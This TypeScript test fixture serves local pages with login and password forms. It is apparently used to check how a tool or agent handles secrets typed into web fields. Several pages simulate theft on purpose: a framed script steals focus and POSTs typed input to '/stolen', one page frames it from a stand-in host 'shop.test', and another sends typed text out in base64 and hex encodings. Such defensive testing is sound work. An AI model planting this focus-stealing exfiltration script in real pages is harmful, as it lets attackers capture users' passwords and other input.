import type { IncomingMessage, ServerResponse } from "node:http";
import { serve } from "../fixtures/loopback.ts";

const form = `<label>User <input id=user></label><label>Password <input type=password id=pw style="font-size:40px"></label>
  <label>Free <input id=free style="font-size:40px;width:500px" oninput="self.said && (said.textContent = 'said by ' + free.value)"></label>
  <button onclick="pw.type = 'text'">Show</button>
  <button onclick="const next = pw.cloneNode(); next.type = 'text'; next.removeAttribute('style'); next.style.fontSize = '40px'; next.value = pw.value; pw.replaceWith(next)">Swap</button>`;
const pages: Record<string, (otherUrl: string) => string> = {
  "/login": () => form,
  "/said": () => `${form}<p id=said></p>`,
  "/framed": (otherUrl) => `<p>ours</p><iframe src="${otherUrl}/login" width=800 height=300></iframe>`,
  "/thief": (otherUrl) => `${form}<iframe src="${otherUrl}/grabs"></iframe>`,
  "/blocks": () => `<style>input { font: 40px monospace; color: #f00; width: 500px; outline: 0 }</style>
    <input type=password id=pw><input id=free oninput="this.setAttribute('value', this.value); said(this.value)">
    <button onclick="pw.type = 'text'; document.title = spelled(free.value)">Show</button>
    <script>
      const spelled = (text) => {
        const bytes = [...new TextEncoder().encode(text)];
        const hex = bytes.map((one) => one.toString(16).padStart(2, "0"));
        const base64 = btoa(String.fromCharCode(...bytes));
        return JSON.stringify([text, text.toUpperCase(), [...text].join(" "), base64, hex.join(""), "%" + hex.join("%")]);
      };
      const said = (text) => {
        fetch("/echo", { method: "POST", body: spelled(text) });
        fetch("/png", { method: "POST", body: text });
      };
    </script>`,
  "/blocks-in-frame": () => `<iframe src="/blocks" width=900 height=300></iframe>`,
  "/keys": () =>
    `<input type=number id=code><form method=post action=/sent><input id=user name=a><input name=b><button>Go</button></form>`,
  "/robbed": () => `${form}<iframe src="http://shop.test/grabs"></iframe>`,
  "/grabs": () =>
    `<input id=grab><script>setInterval(() => { grab.focus(); if (grab.value) fetch("/stolen", { method: "POST", body: grab.value }); }, 1)</script>`,
};

/** Two operations that differ in the pattern of what they answer. */
function description(url: string): string {
  const operation = (operationId: string, pattern: string) => {
    const ofJson = (schema: object) => ({ content: { "application/json": { schema } } });
    const reply = ofJson({ type: "object", properties: { k: { type: "string", pattern } } });
    return {
      ...{ operationId, requestBody: ofJson({ type: "object" }) },
      responses: { "200": { description: "the same", ...reply } },
    };
  };
  const paths = {
    "/echo": { post: operation("hit", "^token"), put: operation("miss", "^other") },
  };
  const info = { title: "echo", version: "1" };
  return JSON.stringify({ openapi: "3.1.0", info, servers: [{ url }], paths });
}

async function bodyOf(request: IncomingMessage): Promise<string> {
  let body = "";
  for await (const chunk of request) body += String(chunk);
  return body;
}

function show(response: ServerResponse, path: string, html: string | undefined): void {
  const [status, kind] = html ? [200, "text/html"] : [path === "/taken" ? 401 : 200, "text/plain"];
  response.writeHead(status, { "content-type": kind }).end(html ? `<!doctype html>${html}` : "said");
}

type Seen = { host: string; line: string; key: unknown; body: string };

export type SecretSites = Awaited<ReturnType<typeof openSecretSites>>;

/** One site at two addresses, `site` and `otherUrl`, with fields that take, show, echo or steal what is typed; `seen` are the requests of both. */
export async function openSecretSites() {
  const seen: Seen[] = [];
  const answer = async (request: IncomingMessage, response: ServerResponse): Promise<void> => {
    const { pathname } = new URL(request.url ?? "/", "http://x");
    const { "x-key": key, host = "" } = request.headers;
    const body = await bodyOf(request);
    seen.push({ host, line: `${request.method} ${pathname}`, key, body });
    const to = { "/away": "/taken", "/redirect": "/login" }[pathname];
    if (to !== undefined) return void response.writeHead(307, { location: `${otherUrl}${to}` }).end();
    const type = { "/echo": "application/json", "/png": "image/png" }[pathname];
    if (type) return void response.writeHead(200, { "content-type": type }).end(body);
    if (pathname === "/openapi.json")
      return void response.writeHead(200, { "content-type": "application/json" }).end(description(site.url));
    show(response, pathname, pages[pathname]?.(otherUrl));
  };
  const [site, other] = await Promise.all([serve(answer), serve(answer)]);
  // Names of this machine are one, but for their ports.
  const otherUrl = other.url.replace("127.0.0.1", "localhost");
  const close = async () => void (await Promise.all([site.close(), other.close()]));
  return { site, otherUrl, seen, close };
}
